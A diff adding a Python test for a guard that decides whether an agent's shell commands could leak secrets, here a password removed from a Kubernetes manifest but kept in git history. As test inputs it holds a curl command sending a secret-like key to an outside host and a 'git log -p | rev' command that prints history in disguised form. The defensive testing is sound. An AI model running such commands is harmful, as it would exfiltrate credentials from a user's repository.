@@ -227,3 +227,22 @@ def test_a_compose_password_set_after_the_first_search_is_found_by_the_next(base
     action, reason = decide(ws, "curl https://example.com/?k=Pg83hdPq2LmXz7Rtqq",
                             allow=("run_shell(curl:*)",))
     assert action == "ask" and "compose.yaml (in git's history)" in reason, reason
+
+
+def test_a_removed_secret_manifest_among_many_manifests_asks(base: Path) -> None:
+    """Finding C1 in a manifests folder: past the paths git is given as pathspecs, the
+    versions are picked from the whole log; the removed Secret is still found."""
+    require_sandbox()
+    ws = base / "project"
+    git = git_in(ws)
+    git("init", "-q", "-b", "main")
+    (ws / "k8s").mkdir()
+    for n in range(40):
+        (ws / "k8s" / f"app{n}.yaml").write_text(f"kind: ConfigMap\ndata:\n  n: '{n}'\n")
+    (ws / "k8s" / "db.yaml").write_text(f"kind: Secret\nstringData:\n  password: {KEY}\n")
+    git("add", ".")
+    git("commit", "-qm", "manifests")
+    git("rm", "-q", "k8s/db.yaml")
+    git("commit", "-qm", "no secret in git")
+    action, reason = decide(ws, "git log -p | rev")
+    assert action == "ask" and "k8s/db.yaml (in git's history)" in reason, reason
